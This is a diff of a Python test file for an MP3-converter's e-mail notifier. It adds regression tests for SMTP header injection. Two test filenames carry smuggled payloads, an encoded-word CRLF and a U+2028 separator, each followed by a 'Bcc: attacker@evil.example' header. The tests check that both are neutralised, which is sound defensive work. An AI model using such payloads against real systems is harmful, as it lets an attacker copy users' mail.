@@ -103,17 +103,67 @@ def test_an_email_goes_to_the_owner_when_smtp_is_configured(memory_db, smtp_serv
     assert f"http://converter.test:8080/download?fid={job['mp3_fid']}" in text
 
 
-def test_smtp_down_still_acks_after_the_log_line(memory_db, caplog, monkeypatch):
+def test_smtp_down_releases_the_claim_logs_and_hands_the_message_back_once(memory_db, caplog, monkeypatch):
+    """An unsent e-mail never stays claimed: handed back once, then dead-lettered, still unclaimed, so
+    that a message replayed from the dead-letter queue sends it."""
     settings = load(NotificationSettings, **BASE, smtp_host="127.0.0.1", smtp_port=1)
     notifier = Notifier(settings, memory_db)
     monkeypatch.setattr(notifier._mailer.send.retry, "sleep", lambda _seconds: None)
     job = done_job(memory_db)
 
     with caplog.at_level(logging.INFO):
-        outcome = outcome_of(notifier, message(job), threading.Event())
+        first = outcome_of(notifier, message(job), threading.Event())
+        again = outcome_of(notifier, Delivery(message(job).body, True), threading.Event())
 
-    assert outcome.action is Action.ACK
-    assert any(r.getMessage() == "e-mail not sent" for r in caplog.records)
+    assert (first.action, again.action) == (Action.REQUEUE, Action.REJECT)
+    assert Jobs(memory_db).get(job["_id"])["notified_at"] is None
+    failures = [r for r in caplog.records if r.getMessage() == "e-mail not sent"]
+    assert len(failures) == 2 and all("Connection refused" in r.error for r in failures)
+
+
+def with_filename(db, filename: str) -> dict:
+    job = done_job(db, owner="carol@example.com")
+    db["jobs"].update_one({"_id": job["_id"]}, {"$set": {"filename": filename}})
+    return Jobs(db).get(job["_id"])
+
+
+def test_a_file_name_of_encoded_words_adds_no_header_and_no_recipient(memory_db, smtp_server):
+    """The file name survives the upload's clean_filename; set as it is in the Subject, Python's e-mail
+    package decoded it into a line break and a Bcc header, and smtplib sent a copy to the attacker."""
+    controller, inbox = smtp_server
+    settings = load(NotificationSettings, **BASE, smtp_host="127.0.0.1", smtp_port=controller.port)
+    job = with_filename(memory_db, "=?utf-8?q?=0D=0ABcc:_attacker@evil.example?=.mp4")
+
+    assert outcome_of(Notifier(settings, memory_db), message(job), threading.Event()).action is Action.ACK
+
+    [mail] = inbox.messages
+    assert mail.rcpt_tos == ["carol@example.com"]
+    received = email.message_from_bytes(mail.content, policy=email.policy.default)
+    assert sorted(received.keys()) == ["Content-Transfer-Encoding", "Content-Type", "From", "MIME-Version",
+                                       "Subject", "To"]
+    header_lines = mail.content.split(b"\r\n\r\n")[0].splitlines()
+    assert not [line for line in header_lines if line.lower().startswith(b"bcc")]
+    subject = str(received["Subject"])
+    assert "\r" not in subject and "\n" not in subject and "=?" not in subject
+    assert subject.startswith("Your MP3 is ready: ")
+
+
+def test_a_file_name_with_a_line_separator_is_mailed(memory_db, smtp_server, caplog):
+    """U+2028 made setting the Subject raise, after the job was claimed: the mail was never sent."""
+    controller, inbox = smtp_server
+    settings = load(NotificationSettings, **BASE, smtp_host="127.0.0.1", smtp_port=controller.port)
+    job = with_filename(memory_db, "holiday\u2028Bcc: attacker@evil.example.mp4")
+
+    with caplog.at_level(logging.WARNING):
+        assert outcome_of(Notifier(settings, memory_db), message(job), threading.Event()).action is Action.ACK
+
+    [mail] = inbox.messages
+    assert mail.rcpt_tos == ["carol@example.com"]
+    received = email.message_from_bytes(mail.content, policy=email.policy.default)
+    assert received["Subject"] == "Your MP3 is ready: holiday_Bcc_ attacker_evil.example.mp4"
+    assert "Bcc" not in received
+    assert "holiday\u2028Bcc: attacker@evil.example.mp4" in received.get_content()  # the body names it as it is
+    assert not caplog.records
 
 
 @pytest.mark.parametrize("body", [b"{", b'"job"', b'{"job_id": "nope"}', b'{"job_id": 7}'])
